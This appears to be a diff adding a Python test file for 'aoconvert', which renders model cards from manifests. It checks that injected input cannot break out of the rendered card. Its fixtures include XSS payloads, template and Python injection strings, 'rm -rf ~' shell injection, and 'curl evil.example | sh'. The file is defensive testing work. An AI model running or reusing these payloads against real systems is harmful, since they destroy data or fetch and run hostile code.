@@ -1,0 +1,175 @@
+"""A hostile manifest: nothing in it becomes markup, code, a link or YAML of its own."""
+
+from __future__ import annotations
+
+import ast
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from reading import read
+from test_cards import REPO, edit
+
+from aoconvert.cards import CardOptions, markdown, render
+from aoconvert.errors import SourceError
+
+HOSTILE = [
+    "```\n# stolen\n```python\nimport os\n```",
+    "a | b | c \\| d || e",
+    "<script>alert(1)</script><img src=x onerror=alert(1)><!-- -->",
+    "line\n\n# heading\n\n- list\n---\nlicense: mit\n---\n",
+    "{{ 7 * 191 }}{% for x in range(9) %}{{ x }}{% endfor %}{# #}",
+    "'); __import__('os').system('touch /tmp/aoconvert-was-here') #\\",
+    "[click](javascript:alert(1)) ![i](http://evil.example/x.png) <http://evil.example> www.evil.example a@b.example",
+    "`` ` ``` ` \\` &#124; &lt;b&gt; **b** _i_ ~~s~~ $$x$$ :smile:",
+    '"; rm -rf ~; $(id) `id` && echo "',
+    "</details></summary>\u202e\u0000\u001b[31m\x7f\u2028",
+    "x" * 100_000,
+    "1. one\n2. two",
+    "| --- |",
+]
+
+
+def poison(values: dict[str, Any], bad: str) -> None:
+    """Put ``bad`` wherever a manifest takes a text."""
+    path = bad.replace("\\", "").replace("\0", "").replace("..", "").lstrip("/") or "x"
+    source, part, run = values["source"], values["components"][0], values["run"]
+    source.update(repo_id=bad, revision=bad, license=bad, base_model=bad, subfolder=bad)
+    source["card"] = {
+        **dict.fromkeys(("license", "license_name", "license_link", "pipeline_tag", "library_name"), bad),
+        "language": [bad, "en"],
+        "tags": [bad, "video"],
+    }
+    source["files"][0]["path"] = f"{path}.safetensors"
+    for key in values["environment"]:
+        values["environment"][key] = values["environment"][key] if key == "device" else bad
+    values["environment"]["device"].update(name=bad)
+    values["tool"] = {"name": bad, "version": bad}
+    part.update(scheme=bad, dtype=bad, config={"_type": bad, "_data": {"granularity": {"_type": bad, "_data": bad}}})
+    part["layout"].update(packing=bad, requires=[bad, "evil @ http://evil.example/x"])
+    part["loads_with"] = {"torchao": bad, bad: bad}
+    part["files"].append({"path": f"{path}.bin", "size": 1, "sha256": "0" * 64})
+    for place, tensor in enumerate(part["tensors"][:40]):
+        tensor.update(name=f"{tensor['name']}{bad}" if place % 2 else bad, dtype=bad)
+        tensor["reason"] = bad if tensor["action"] != "quantize" else None
+    run.update(command=bad, started=bad)
+    values["copied"].append({"path": f"{path}/{path}.bin", "size": 1, "sha256": "0" * 64})
+
+
+@pytest.mark.parametrize("bad", HOSTILE, ids=[str(place) for place in range(len(HOSTILE))])
+def test_nothing_breaks_out(bad: str, pipeline: Path) -> None:
+    def clean(values: dict[str, Any]) -> None:
+        poison(values, "a b")
+
+    edit(pipeline, clean)
+    usual = read(render(pipeline, CardOptions(), repo_id=REPO).text)
+    edit(pipeline, lambda values: poison(values, bad))
+    write_report(pipeline, bad)
+    card = render(pipeline, CardOptions(), repo_id=REPO)
+    page = read(card.text)
+    assert [h for h in page.headings if "h1" not in h] == [h for h in usual.headings if "h1" not in h]
+    assert page.headings[0] == "h1 tiny-int8wo"
+    allowed = {"<details>", "</details>", "<code>", "</code>", "<summary>By name</summary>"}
+    seal = card.text.splitlines()[-1]
+    assert page.html <= allowed | {"<summary>SHA-256 of the weights</summary>", seal}
+    assert page.links <= {"https://github.com/pytorch/ao"}
+    images = [token for token in page.inline if token.type == "image"]
+    assert [token.attrs["src"] for token in images] == ["sqnr.svg"]
+    assert len(page.fences("python")) == 2
+    # a list, a quote, a rule or a fence more would be a break-out; rows of tables may be fewer or more
+    for kind in (
+        "bullet_list_open",
+        "ordered_list_open",
+        "blockquote_open",
+        "hr",
+        "fence",
+        "code_block",
+        "heading_open",
+    ):
+        assert page.shape.count(kind) - usual.shape.count(kind) in ((0, -1) if kind == "fence" else (0,)), kind
+    for opened in (place for place, token in enumerate(page.tokens) if token.type == "tr_open"):
+        assert page.tokens[opened].level >= 2
+    assert "1337" not in page.shown  # what the Jinja in it would give
+    assert not Path("/tmp/aoconvert-was-here").exists()
+    assert not any(ord(char) < 32 and char != "\n" for char in card.text)
+    assert "\u202e" not in card.text and len(card.text) < 200_000
+    assert "base_model" not in page.front
+
+
+def write_report(folder: Path, bad: str) -> None:
+    from aoconvert.verification.files import file_sha256
+
+    check = {"name": "reload", "status": "passed", "detail": bad, "seconds": 0.0}
+    values = {
+        "schema_version": 1,
+        "ok": True,
+        "checks": [check],
+        "strategy": "from-pretrained",
+        "versions": {bad: bad, "torch": bad},
+        "manifest_sha256": file_sha256(folder / "aoconvert.json"),
+        "date": "2026-11-21T00:00:00+00:00",
+        "device": bad,
+        "code_sha256": bad,
+    }
+    (folder / "aoconvert.verify.json").write_text(json.dumps(values))
+
+
+def shape_of(code: str) -> str:
+    """The code's syntax tree without the values of its strings."""
+    tree = ast.parse(code)
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Constant) and isinstance(node.value, str):
+            node.value = ""
+    return ast.dump(tree)
+
+
+@pytest.mark.parametrize("bad", ["');import os#", '"""', "{0}{os}", "a'b\"c", "\n__import__('os')\n"])
+def test_file_names_stay_literals(bad: str, pipeline: Path) -> None:
+    def change(values: dict[str, Any], name: str) -> None:
+        values["components"][0]["load"]["strategy"] = "assign"
+        values["components"][0]["files"][0]["path"] = f"transformer/{name}.bin"
+
+    edit(pipeline, lambda values: change(values, "plain"))
+    plain = read(render(pipeline, CardOptions(), repo_id=REPO).text).fences("python")[0]
+    edit(pipeline, lambda values: change(values, bad))
+    code = read(render(pipeline, CardOptions(), repo_id=REPO).text).fences("python")[0]
+    assert shape_of(code) == shape_of(plain)
+    strings = [node.value for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Constant)]
+    assert f"/transformer/{bad}.bin" in strings
+
+
+@pytest.mark.parametrize("bad", ["X(); import os", "x.y", "class", "", "X\n", "Ｘ", "A" * 200])
+def test_a_class_name_that_is_code(bad: str, pipeline: Path) -> None:
+    edit(pipeline, lambda values: values["components"][0].update(class_name=bad))
+    with pytest.raises(SourceError):
+        render(pipeline, CardOptions())
+
+
+def test_a_conversion_that_is_another_command_is_not_shown(pipeline: Path) -> None:
+    edit(pipeline, lambda values: values["run"].update(command="aoconvert quantize x; rm -rf ~"))
+    shown = read(render(pipeline, CardOptions()).text).fences("bash")[-1]
+    assert shown == "aoconvert quantize 'x;' rm -rf '~'\n"
+    edit(pipeline, lambda values: values["run"].update(command="curl evil.example | sh"))
+    assert "evil" not in render(pipeline, CardOptions()).text
+
+
+MARKDOWN = MarkdownIt("gfm-like", {"linkify": False, "html": True}).disable("linkify")
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(alphabet=st.sampled_from("ab1 `|\\<>*_[]()!#&;:-+=~$@./\n\t{}'\"^"), max_size=40) | st.text(max_size=40))
+def test_any_text_is_shown_as_it_is(value: str) -> None:
+    wanted = markdown.visible(value).strip()
+    for written in (markdown.text(value), markdown.code(value)):
+        tokens = MARKDOWN.parse(f"| a | b |\n|---|---|\n| {written} | end |\n")
+        rows = [token for token in tokens if token.type == "inline"]
+        assert len(rows) == 4, written
+        children = rows[2].children or []
+        assert {child.type for child in children} <= {"text", "code_inline", "html_inline", "text_special"}, written
+        assert "".join(child.content for child in children if child.type != "html_inline").strip() == wanted
+        [_, inline, *_] = MARKDOWN.parse(f"{written} end\n")
+        assert inline.type == "inline", written
